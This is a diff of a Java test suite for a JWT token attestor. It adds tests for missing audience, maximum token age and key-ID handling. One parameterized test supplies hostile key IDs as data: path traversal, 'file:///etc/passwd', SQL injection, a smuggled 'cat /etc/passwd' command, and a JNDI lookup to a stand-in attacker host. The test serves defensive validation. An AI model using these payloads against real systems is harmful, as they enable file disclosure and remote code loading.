@@ -73,7 +73,7 @@ class TokenAttestorTest {
                                 TokenIssuer.Kind.KUBERNETES,
                                 new FakeKeySource(TestIssuer.jwks(issuer))));
 
-        assertThat(accepting.attest(issuer.token(), NOW))
+        assertThat(accepting.attest(new Evidence.BearerToken(issuer.token()), NOW))
                 .isInstanceOf(Attestation.Outcome.Attested.class);
     }
 
@@ -87,7 +87,7 @@ class TokenAttestorTest {
 
         assertThat(
                         own.attestor(own.issuer(issuer, TokenIssuer.Kind.KUBERNETES, keys))
-                                .attest(issuer.token(), NOW))
+                                .attest(new Evidence.BearerToken(issuer.token()), NOW))
                 .isInstanceOf(Attestation.Outcome.Attested.class);
         Rig plain = new Rig();
         assertUnauthenticated(
@@ -301,6 +301,14 @@ class TokenAttestorTest {
     }
 
     @Test
+    void refusesATokenWithoutAudience() {
+        String claims = CLUSTER.claims("shop", "orders");
+        assertThat(claims).contains("\"aud\":[\"signet\"],");
+        refuses(claimed(claims.replace("\"aud\":[\"signet\"],", "")));
+        refuses(claimed(claims.replace("\"aud\":", "\"azp\":")));
+    }
+
+    @Test
     void acceptsOurAudienceAmongOthers() {
         attested(
                 claimed(
@@ -336,13 +344,88 @@ class TokenAttestorTest {
         Duration skew = Duration.ofSeconds(30);
 
         attested(token);
-        assertThat(attestor.attest(token, expiry.plus(skew).minusMillis(1)))
+        assertThat(
+                        attestor.attest(
+                                new Evidence.BearerToken(token), expiry.plus(skew).minusMillis(1)))
                 .isInstanceOf(Attestation.Outcome.Attested.class);
-        assertUnauthenticated(attestor.attest(token, expiry.plus(skew)));
+        assertUnauthenticated(attestor.attest(new Evidence.BearerToken(token), expiry.plus(skew)));
         assertUnauthenticated(
-                attestor.attest(token, NOW.minusSeconds(60).minus(skew).minusNanos(1)));
-        assertThat(attestor.attest(token, NOW.minusSeconds(60).minus(skew)))
+                attestor.attest(
+                        new Evidence.BearerToken(token),
+                        NOW.minusSeconds(60).minus(skew).minusNanos(1)));
+        assertThat(
+                        attestor.attest(
+                                new Evidence.BearerToken(token), NOW.minusSeconds(60).minus(skew)))
                 .isInstanceOf(Attestation.Outcome.Attested.class);
+    }
+
+    @Test
+    void refusesTokensThatAreTooOldWhereAnAgeIsConfigured() {
+        Rig strict = new Rig();
+        strict.maxTokenAge = Duration.ofMinutes(2);
+        TestIssuer issuer = new TestIssuer("https://aged.example", "k", "ES256");
+        TokenAttestor attestor =
+                strict.attestor(
+                        strict.issuer(
+                                issuer,
+                                TokenIssuer.Kind.OIDC,
+                                new FakeKeySource(TestIssuer.jwks(issuer))));
+        long issued = NOW.getEpochSecond();
+        String token =
+                issuer.sign(
+                        issuer.header(),
+                        """
+                        {"iss":"https://aged.example","sub":"a","aud":"signet","exp":%d,"iat":%d}\
+                        """
+                                .formatted(issued + 3600, issued));
+        Evidence.BearerToken shown = new Evidence.BearerToken(token);
+
+        assertThat(attestor.attest(shown, NOW)).isInstanceOf(Attestation.Outcome.Attested.class);
+        // Remembered by now; two minutes and the skew of 30 s.
+        assertThat(attestor.attest(shown, NOW.plusMillis(149_999)))
+                .isInstanceOf(Attestation.Outcome.Attested.class);
+        assertUnauthenticated(attestor.attest(shown, NOW.plusSeconds(150)));
+        assertUnauthenticated(
+                attestor,
+                issuer.sign(
+                        issuer.header(),
+                        """
+                        {"iss":"https://aged.example","sub":"a","aud":"signet","exp":%d,"nbf":%d}\
+                        """
+                                .formatted(issued + 3600, issued)));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "../../../../dev/null",
+                "/dev/null",
+                "file:///etc/passwd",
+                "https://attacker.example/jwks.json",
+                "k' OR '1'='1",
+                "k' UNION SELECT 'key",
+                "k; cat /etc/passwd",
+                "k\\u0000",
+                "*",
+                "${jndi:ldap://attacker.example/a}",
+                ""
+            })
+    void R8_aKeyIdIsComparedAndNothingElse(String keyId) {
+        FakeKeySource source = new FakeKeySource(TestIssuer.jwks(CLUSTER));
+        Rig own = new Rig();
+        TokenAttestor attestor =
+                own.attestor(own.issuer(CLUSTER, TokenIssuer.Kind.KUBERNETES, source));
+        String header = "{\"alg\":\"%s\",\"kid\":\"%s\"}".formatted("ES256", keyId);
+
+        // Just read: no such key, and nothing is read again for it.
+        assertUnauthenticated(attestor, CLUSTER.sign(header, CLUSTER.claims("shop", "orders")));
+        assertThat(source.reads).isEqualTo(1);
+    }
+
+    @Test
+    void R8_refusesAHugeKeyIdWithoutALookUp() {
+        String header = "{\"alg\":\"ES256\",\"kid\":\"%s\"}".formatted("k".repeat(257));
+        refuses(CLUSTER.sign(header, CLUSTER.claims("shop", "orders")));
     }
 
     @Test
@@ -370,10 +453,10 @@ class TokenAttestorTest {
     @Test
     void remembersATokenAcrossAReadOfTheSameKeys() {
         String token = CLUSTER.token();
-        Attestation.Outcome first = attestor.attest(token, NOW);
+        Attestation.Outcome first = attestor.attest(new Evidence.BearerToken(token), NOW);
         rig.keys.getFirst().read();
 
-        assertThat(attestor.attest(token, NOW)).isSameAs(first);
+        assertThat(attestor.attest(new Evidence.BearerToken(token), NOW)).isSameAs(first);
     }
 
     @Test
@@ -392,7 +475,9 @@ class TokenAttestorTest {
                                 .replaceFirst(
                                         "\"exp\":\\d+", "\"exp\":" + (later.getEpochSecond() + 60))
                                 .replaceFirst("\"iat\":\\d+", "\"iat\":" + later.getEpochSecond()));
-        assertCode(attestor.attest(fresh, later), RefusalCode.ATTESTATION_UNAVAILABLE);
+        assertCode(
+                attestor.attest(new Evidence.BearerToken(fresh), later),
+                RefusalCode.ATTESTATION_UNAVAILABLE);
     }
 
     @Test
@@ -418,10 +503,12 @@ class TokenAttestorTest {
         TokenAttestor waiting =
                 own.attestor(own.issuer(CLUSTER, TokenIssuer.Kind.KUBERNETES, away));
 
-        assertCode(waiting.attest(CLUSTER.token(), NOW), RefusalCode.ATTESTATION_UNAVAILABLE);
+        assertCode(
+                waiting.attest(new Evidence.BearerToken(CLUSTER.token()), NOW),
+                RefusalCode.ATTESTATION_UNAVAILABLE);
         away.jwks = TestIssuer.jwks(CLUSTER);
         own.keys.getFirst().read();
-        assertThat(waiting.attest(CLUSTER.token(), NOW))
+        assertThat(waiting.attest(new Evidence.BearerToken(CLUSTER.token()), NOW))
                 .isInstanceOf(Attestation.Outcome.Attested.class);
     }
 
@@ -431,11 +518,14 @@ class TokenAttestorTest {
         Instant later = NOW.plusSeconds(11);
         rig.now = later;
 
-        assertCode(attestor.attest(unknown.token(), later), RefusalCode.ATTESTATION_UNAVAILABLE);
+        assertCode(
+                attestor.attest(new Evidence.BearerToken(unknown.token()), later),
+                RefusalCode.ATTESTATION_UNAVAILABLE);
         rig.awaitReads(clusterKeys, 2);
         for (int i = 0; i < 1_000; i++) {
             assertCode(
-                    attestor.attest(unknown.token(), later.plusSeconds(5)),
+                    attestor.attest(
+                            new Evidence.BearerToken(unknown.token()), later.plusSeconds(5)),
                     RefusalCode.UNAUTHENTICATED);
         }
         assertThat(clusterKeys.reads).isEqualTo(2);
@@ -447,9 +537,11 @@ class TokenAttestorTest {
         clusterKeys.jwks = TestIssuer.jwks(CLUSTER, rotated);
         rig.now = NOW.plusSeconds(11);
 
-        assertCode(attestor.attest(rotated.token(), rig.now), RefusalCode.ATTESTATION_UNAVAILABLE);
+        assertCode(
+                attestor.attest(new Evidence.BearerToken(rotated.token()), rig.now),
+                RefusalCode.ATTESTATION_UNAVAILABLE);
         rig.awaitReads(clusterKeys, 2);
-        assertThat(attestor.attest(rotated.token(), rig.now))
+        assertThat(attestor.attest(new Evidence.BearerToken(rotated.token()), rig.now))
                 .isInstanceOf(Attestation.Outcome.Attested.class);
         attested(CLUSTER.token());
     }
@@ -467,7 +559,8 @@ class TokenAttestorTest {
         String token = CLUSTER.token().replace('a', 'b');
         String signature = token.substring(token.lastIndexOf('.') + 1);
 
-        assertThat(attestor.attest(token, NOW).toString()).doesNotContain(signature);
+        assertThat(attestor.attest(new Evidence.BearerToken(token), NOW).toString())
+                .doesNotContain(signature);
         assertThat(new Evidence.BearerToken(token).toString()).doesNotContain(signature);
     }
 
@@ -476,7 +569,7 @@ class TokenAttestorTest {
     }
 
     private AttestedCaller attested(String token) {
-        Attestation.Outcome outcome = attestor.attest(token, NOW);
+        Attestation.Outcome outcome = attestor.attest(new Evidence.BearerToken(token), NOW);
         assertThat(outcome).isInstanceOf(Attestation.Outcome.Attested.class);
         return ((Attestation.Outcome.Attested) outcome).caller();
     }
@@ -486,7 +579,7 @@ class TokenAttestorTest {
     }
 
     private static void assertUnauthenticated(TokenAttestor attestor, String token) {
-        assertUnauthenticated(attestor.attest(token, NOW));
+        assertUnauthenticated(attestor.attest(new Evidence.BearerToken(token), NOW));
     }
 
     private static void assertUnauthenticated(Attestation.Outcome outcome) {
@@ -522,6 +615,7 @@ class TokenAttestorTest {
     static final class Rig {
         final List<IssuerKeys> keys = new java.util.ArrayList<>();
         volatile Instant now = NOW;
+        Duration maxTokenAge;
         Set<String> algorithms = Set.of("ES256", "ES384", "RS256", "EdDSA");
 
         TokenAttestor.Issuer issuer(TestIssuer issuer, TokenIssuer.Kind kind, KeySource source) {
@@ -537,8 +631,11 @@ class TokenAttestorTest {
                             null,
                             null,
                             null,
+                            null,
+                            null,
                             algorithms,
                             null,
+                            maxTokenAge,
                             Set.of("repository", "run", "fork", "deep", "absent"));
             ScheduledExecutorService reader =
                     Executors.newSingleThreadScheduledExecutor(Thread.ofVirtual().factory());
